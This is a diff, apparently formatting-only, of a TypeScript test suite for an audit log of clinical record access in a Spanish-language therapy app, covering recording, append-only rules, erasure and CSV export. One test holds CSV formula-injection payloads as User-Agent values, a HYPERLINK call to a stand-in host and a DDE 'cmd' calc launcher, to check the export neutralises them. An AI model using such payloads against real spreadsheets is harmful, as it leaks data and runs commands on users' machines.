@@ -26,7 +26,11 @@ const as = (who: Session, t: Pick<AppTarget, 'appUrl'> = testEnv()) => ({
 });
 
 const entriesOf = (patientId: string, target: Pick<AppTarget, 'databaseUrl'> = testEnv()) =>
-  sql<Row>('select kind, action, success, status, actor_role, actor_id::text, path from access_history where patient_id = $1 order by id', [patientId], target);
+  sql<Row>(
+    'select kind, action, success, status, actor_role, actor_id::text, path from access_history where patient_id = $1 order by id',
+    [patientId],
+    target,
+  );
 const pairs = (rows: Row[]) => rows.map((r) => `${r.kind}:${r.action}`);
 
 /** Runs `call` and answers the entries it added for `patientId`. */
@@ -53,8 +57,17 @@ describe('access history: recording', () => {
     expect(pairs(await added(id, () => as(me).get(`/pacientes/${id}`).expect(200)))).toEqual(['ficha:lectura']);
     expect(pairs(await added(id, () => as(me).get(`/pacientes/unified/${id}`).expect(200)))).toEqual(['ficha:lectura']);
     const [update] = await added(id, () => as(me).patch(`/pacientes/${id}`, { profesion_ocupacion: 'Docente' }).expect(200));
-    expect(update).toMatchObject({ kind: 'ficha', action: 'modificacion', success: true, status: 200, actor_role: 'terapeuta', actor_id: me.id });
-    const [where] = await sql('select ip, user_agent, occurred_at from access_history where patient_id = $1 order by id desc limit 1', [id]);
+    expect(update).toMatchObject({
+      kind: 'ficha',
+      action: 'modificacion',
+      success: true,
+      status: 200,
+      actor_role: 'terapeuta',
+      actor_id: me.id,
+    });
+    const [where] = await sql('select ip, user_agent, occurred_at from access_history where patient_id = $1 order by id desc limit 1', [
+      id,
+    ]);
     expect(where.user_agent).toBe(UA);
     expect(String(where.ip)).toMatch(/127\.0\.0\.1|::1/);
   });
@@ -77,7 +90,13 @@ describe('access history: recording', () => {
       await as(me).post('/aws-s3/download-url', { file_key: video }).expect(200);
     });
     expect(pairs(rows)).toEqual([
-      'sesion:lectura', 'sesion:creacion', 'sesion:lectura', 'sesion:modificacion', 'sesion:modificacion', 'archivo:lectura', 'archivo:lectura',
+      'sesion:lectura',
+      'sesion:creacion',
+      'sesion:lectura',
+      'sesion:modificacion',
+      'sesion:modificacion',
+      'archivo:lectura',
+      'archivo:lectura',
     ]);
     expect(rows.every((r) => r.success)).toBe(true);
     expect(rows[1].status).toBe(201);
@@ -102,10 +121,18 @@ describe('access history: recording', () => {
       await as(me).post(`/sesiones-asincronas/start-transcription/${draftId}`).expect(503);
       await as(me).post(`/sesiones-asincronas/start-analysis/${draftId}`).expect(503);
       await as(me).get(`/sesiones-asincronas/progress/${draftId}`).expect(200);
-      await as(me).delete(`${DRAFTS.replace(API, '')}/${draftId}`).expect(200);
+      await as(me)
+        .delete(`${DRAFTS.replace(API, '')}/${draftId}`)
+        .expect(200);
     });
     expect(pairs(rows)).toEqual([
-      'borrador:creacion', 'borrador:lectura', 'borrador:lectura', 'borrador:modificacion', 'transcripcion:creacion', 'analisis:creacion', 'borrador:eliminacion',
+      'borrador:creacion',
+      'borrador:lectura',
+      'borrador:lectura',
+      'borrador:modificacion',
+      'transcripcion:creacion',
+      'analisis:creacion',
+      'borrador:eliminacion',
     ]);
     expect(rows.filter((r) => !r.success).map((r) => r.status)).toEqual([503, 503]);
   });
@@ -130,7 +157,12 @@ describe('access history: recording', () => {
       await as(patient).post('/pacientes/perfil/consentimientos/ia/revocar').send({}).expect(200);
       await as(me).post(`/pacientes/consentimientos/${id}`).send({ tipo: 'ia', forma: 'verbal' }).expect(201);
     });
-    expect(pairs(rows)).toEqual(['consentimiento:lectura', 'consentimiento:lectura', 'consentimiento:modificacion', 'consentimiento:creacion']);
+    expect(pairs(rows)).toEqual([
+      'consentimiento:lectura',
+      'consentimiento:lectura',
+      'consentimiento:modificacion',
+      'consentimiento:creacion',
+    ]);
     expect(rows.map((r) => r.actor_role)).toEqual(['terapeuta', 'paciente', 'paciente', 'terapeuta']);
   });
 
@@ -144,7 +176,10 @@ describe('access history: recording', () => {
     await as(otherPatient).get(`/sesiones/paciente/sesion/${session.id}`).expect(404);
     await as(patient).get(`/sesiones/${session.id}`).expect(403); // wrong role: refused before the route
     expect(await entriesOf(id)).toHaveLength(before);
-    const attempts = await sql<Row>('select kind, success, status, path from access_history where patient_id is null and actor_id = $1 order by id', [other.id]);
+    const attempts = await sql<Row>(
+      'select kind, success, status, path from access_history where patient_id is null and actor_id = $1 order by id',
+      [other.id],
+    );
     expect(attempts.map((r) => [r.path, r.status, r.success])).toEqual([
       [`${API}/pacientes/${id}`, 404, false],
       [`${API}/sesiones/${session.id}`, 404, false],
@@ -189,7 +224,11 @@ describe('access history: the therapist reads it', () => {
   });
 
   it('refuses a bad filter with a Spanish detail', async () => {
-    expectProblem(await history(me, patient.patientId, `?filter=${encodeURIComponent('{"tipo":"otra"}')}`), 400, MSG.accessHistory.kindFilter);
+    expectProblem(
+      await history(me, patient.patientId, `?filter=${encodeURIComponent('{"tipo":"otra"}')}`),
+      400,
+      MSG.accessHistory.kindFilter,
+    );
     expectProblem(await history(me, patient.patientId, `?filter=${encodeURIComponent('{"actor":"x"}')}`), 400);
   });
 
@@ -207,7 +246,9 @@ describe('access history: append-only, erased with the patient, exported by the 
     const me = await therapistSession('Dra. Inmutable');
     const patient = await signedInPatient(me);
     await as(me).get(`/pacientes/${patient.patientId}`).expect(200);
-    await expect(sql('update access_history set success = false where patient_id = $1', [patient.patientId])).rejects.toThrow(/append-only/);
+    await expect(sql('update access_history set success = false where patient_id = $1', [patient.patientId])).rejects.toThrow(
+      /append-only/,
+    );
     await expect(sql('delete from access_history where patient_id = $1', [patient.patientId])).rejects.toThrow(/append-only/);
     expect((await entriesOf(patient.patientId)).length).toBeGreaterThan(0);
   });
@@ -221,7 +262,9 @@ describe('access history: append-only, erased with the patient, exported by the 
     await as(me).delete(`/pacientes/${patient.patientId}`).expect(200);
     expect(await entriesOf(patient.patientId)).toEqual([]);
     expect(await sql('select 1 from access_history where actor_id = $1', [patient.id])).toEqual([]);
-    const [deletion] = await sql<Row>('select kind, action, success, path from access_history where patient_id is null and actor_id = $1', [me.id]);
+    const [deletion] = await sql<Row>('select kind, action, success, path from access_history where patient_id is null and actor_id = $1', [
+      me.id,
+    ]);
     expect(deletion).toEqual({ kind: 'ficha', action: 'eliminacion', success: true, path: `${API}/pacientes/${patient.patientId}` });
   });
 
@@ -230,11 +273,19 @@ describe('access history: append-only, erased with the patient, exported by the 
     const patient = await signedInPatient(me);
     await as(me).get(`/pacientes/${patient.patientId}`).expect(200);
     await as(me).patch(`/pacientes/${patient.patientId}`, { profesion_ocupacion: 'Docente' }).expect(200);
-    const cli = (...args: string[]) => runCli(['access-history:export', ...args], { DATABASE_URL: testEnv().databaseUrl, JWT_SECRET: testEnv().jwtSecret, NODE_ENV: 'test' });
+    const cli = (...args: string[]) =>
+      runCli(['access-history:export', ...args], {
+        DATABASE_URL: testEnv().databaseUrl,
+        JWT_SECRET: testEnv().jwtSecret,
+        NODE_ENV: 'test',
+      });
 
     const jsonl = cli('--patient', patient.patientId);
     expect(jsonl.status).toBe(0);
-    const lines = jsonl.stdout.trim().split('\n').map((l) => JSON.parse(l));
+    const lines = jsonl.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     // The creation, the two consents the test helper records, the read and the update.
     expect(lines.map((l) => [l.tipo, l.accion, l.paciente_id, l.usuario_nombre])).toEqual([
       ['ficha', 'creacion', patient.patientId, 'Dra. Exportadora'],
@@ -243,12 +294,20 @@ describe('access history: append-only, erased with the patient, exported by the 
       ['ficha', 'lectura', patient.patientId, 'Dra. Exportadora'],
       ['ficha', 'modificacion', patient.patientId, 'Dra. Exportadora'],
     ]);
-    expect(lines[3]).toMatchObject({ metodo: 'GET', ruta: `${API}/pacientes/${patient.patientId}`, estado_http: 200, exito: true, agente: UA });
+    expect(lines[3]).toMatchObject({
+      metodo: 'GET',
+      ruta: `${API}/pacientes/${patient.patientId}`,
+      estado_http: 200,
+      exito: true,
+      agente: UA,
+    });
 
     const csv = cli('--patient', patient.patientId, '--format', 'csv');
     expect(csv.status).toBe(0);
     const rows = csv.stdout.trim().split('\n');
-    expect(rows[0]).toBe('"id","fecha","paciente_id","tipo","accion","usuario_id","usuario_nombre","usuario_rol","metodo","ruta","estado_http","exito","ip","agente"');
+    expect(rows[0]).toBe(
+      '"id","fecha","paciente_id","tipo","accion","usuario_id","usuario_nombre","usuario_rol","metodo","ruta","estado_http","exito","ip","agente"',
+    );
     expect(rows).toHaveLength(6);
     expect(rows[4]).toContain(`,"GET","${API}/pacientes/${patient.patientId}","200","true",`);
 
@@ -264,8 +323,9 @@ describe('access history: append-only, erased with the patient, exported by the 
   it('writes a hostile User-Agent into the CSV as text a spreadsheet does not run', async () => {
     const me = await therapistSession('Dra. Hoja de Cálculo');
     const patient = await signedInPatient(me);
-    const hostile = ['Mozilla/5.0;=HYPERLINK("http://evil.example/?"&A1)', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3'];
-    for (const agent of hostile) await api().get(`${API}/pacientes/${patient.patientId}`).set(bearer(me.token)).set('user-agent', agent).expect(200);
+    const hostile = ['Mozilla/5.0;=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3'];
+    for (const agent of hostile)
+      await api().get(`${API}/pacientes/${patient.patientId}`).set(bearer(me.token)).set('user-agent', agent).expect(200);
     const csv = runCli(['access-history:export', '--patient', patient.patientId, '--format', 'csv'], {
       DATABASE_URL: testEnv().databaseUrl,
       JWT_SECRET: testEnv().jwtSecret,
@@ -277,11 +337,7 @@ describe('access history: append-only, erased with the patient, exported by the 
       .split('\n')
       .slice(-3)
       .map((row) => row.slice(row.lastIndexOf(',"') + 1));
-    expect(agents).toEqual([
-      `"Mozilla/5.0;'=HYPERLINK(""http://evil.example/?""&A1)"`,
-      `"'@SUM(1+1)*cmd|' /C calc'!A0"`,
-      `"'-2+3"`,
-    ]);
+    expect(agents).toEqual([`"Mozilla/5.0;'=HYPERLINK(""http://evil.example/?""&A1)"`, `"'@SUM(1+1)*cmd|' /C calc'!A0"`, `"'-2+3"`]);
     // Our own numbers stay numbers (the status), in quotes like every field.
     expect(csv.stdout).toContain(`,"GET","${API}/pacientes/${patient.patientId}","200","true",`);
   });
@@ -292,7 +348,8 @@ describe('access history: every clinical route is declared', () => {
     const doc = (await api().get('/api/docs-json').expect(200)).body as {
       paths: Record<string, Record<string, { 'x-roles'?: string[]; 'x-clinical-access'?: unknown }>>;
     };
-    const scoped = /^\/api\/v1\/(pacientes|sesiones|sesiones-asincronas|ai-agent|paciente-ejercicios|paciente-modulos|modulos\/paciente)(\/|$)|^\/api\/v1\/aws-s3\/(download-url|files\/)/;
+    const scoped =
+      /^\/api\/v1\/(pacientes|sesiones|sesiones-asincronas|ai-agent|paciente-ejercicios|paciente-modulos|modulos\/paciente)(\/|$)|^\/api\/v1\/aws-s3\/(download-url|files\/)/;
     const undeclared: string[] = [];
     let declared = 0;
     for (const [path, operations] of Object.entries(doc.paths)) {
